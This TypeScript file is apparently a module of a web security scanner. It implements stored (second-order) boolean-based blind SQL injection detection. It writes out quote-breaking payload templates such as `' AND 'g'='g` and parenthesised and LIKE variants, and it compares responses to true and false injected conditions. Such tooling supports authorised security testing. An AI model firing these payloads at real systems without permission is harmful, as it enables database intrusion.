import type { Exchange } from "../../../src/model/exchange.ts";
import { learnAnswer, sameAnswer } from "../../../src/oracle/answer/stable.ts";
import { conditions } from "../documents/conditions.ts";
import { shuffled } from "../documents/shuffled.ts";
import { partAbout } from "./part-about.ts";
import { ask, type StoredAim, type StoredFound, type StoredTechnique } from "./stored-technique.ts";

interface Opening {
  readonly name: string;
  readonly quote: "'" | '"';
  readonly open: string;
  readonly close: string;
}

/** Ways out of a literal into a condition, and back; the rest of the statement stays. */
const openings: readonly Opening[] = [
  { name: "quoted", quote: "'", open: "'", close: " AND 'g'='g" },
  { name: "like", quote: "'", open: "%'", close: " AND 'g%'='g" },
  { name: "parenthesised", quote: "'", open: "')", close: " AND ('g'='g" },
  { name: "parenthesised-like", quote: "'", open: "%')", close: " AND ('g%'='g" },
  { name: "double-quoted", quote: '"', open: '"', close: ' AND "g"="g' },
];

/** Asked of a reader without arguments, which is not known to stumble over quotes. */
const mostBlind = 3;

/**
 * Records that add a condition to the harmless text: all true ones get one answer, all false and invalid ones another. Two
 * true ones teach the answer; a server that answers at random gets the other fourteen right once in 16,000 times.
 */
export const storedBoolean: StoredTechnique = {
  name: "boolean",
  breaks: false,
  probe: async (aim) => {
    const fitting = openings.filter(({ quote }) => aim.quotes?.includes(quote) ?? true);
    for (const opening of aim.quotes === undefined ? fitting.slice(0, mostBlind) : fitting) {
      if (await holds(aim, opening)) return true;
    }
    return false;
  },
  find: (reads, stores) => {
    for (const { name } of openings) {
      const found = provenBy(reads, stores, name);
      if (found !== undefined) return found;
    }
    return undefined;
  },
};

async function holds(aim: StoredAim, opening: Opening): Promise<boolean> {
  let following = aim.readers.map((reader) => ({ reader, asked: [] as Exchange[] }));
  for (const { a, b, c, truth } of inOrder(aim)) {
    const value = `${aim.word}${opening.open} AND ${a}${truth === "broken" ? " " : "="}${b}-${c}${opening.close}`;
    const readers = following.map(({ reader }) => reader);
    const reads = await ask({ ...aim, readers }, "boolean", truth === "true" ? "control" : "attack", value, {
      opening: opening.name,
      holds: truth === "true",
    });
    following = following
      .map(({ reader, asked }, index) => ({ reader, asked: [...asked, ...reads.slice(index, index + 1)] }))
      .filter(({ asked }) => keepsStep(asked));
    if (following.length === 0) return false;
  }
  return true;
}

/** A true one, a false one, a true one, then the rest as it comes. An invalid record that stays would break every later answer of a list. */
function inOrder({ notebook, readers }: StoredAim) {
  const all = conditions(notebook.random);
  const extra = conditions(notebook.random).filter(({ truth }) => truth === "true");
  const lasting = !notebook.removes && readers.some(({ draw }) => draw === undefined);
  const fair = all.map((one) =>
    one.truth === "broken" && lasting ? { ...one, a: one.a + 1, truth: "false" as const } : one,
  );
  const trues = fair.filter(({ truth }) => truth === "true");
  const falses = fair.filter(({ truth }) => truth === "false");
  const [first, second] = [extra[0], extra[1]];
  const rest = [...trues, ...falses.slice(1), ...fair.filter(({ truth }) => truth === "broken")];
  return [first, falses[0], second, ...shuffled(rest, notebook.random)].flatMap((one) =>
    one === undefined ? [] : [one],
  );
}

/** True as long as what was asked so far is answered as only an evaluated condition is. */
function keepsStep(asked: readonly Exchange[]): boolean {
  const trues = asked.filter(({ facts }) => facts.holds === true);
  const stable = learnAnswer(trues.slice(0, 2).map(answer), "");
  if (stable === undefined) return false;
  return asked.every((one) => sameAnswer(stable, answer(one), "") === (one.facts.holds === true));
}

function answer({ reply, facts }: Exchange) {
  return partAbout(reply, String(facts.value), facts.list === true);
}

function provenBy(
  reads: readonly Exchange[],
  stores: ReadonlyMap<string, Exchange>,
  opening: string,
): StoredFound | undefined {
  const asked = reads.filter(({ label, facts }) => label === "read:boolean" && facts.opening === opening);
  if (asked.length < 16 || !keepsStep(asked)) return undefined;
  const ids = asked.flatMap(({ id, facts }) => [
    id,
    ...(stores.has(String(facts.record)) ? [String(facts.record)] : []),
  ]);
  const [first, ...others] = ids;
  if (first === undefined) return undefined;
  return {
    proof: [first, ...others],
    because:
      "conditions in stored text are evaluated when another tool uses it: true ones get one answer, others another",
  };
}
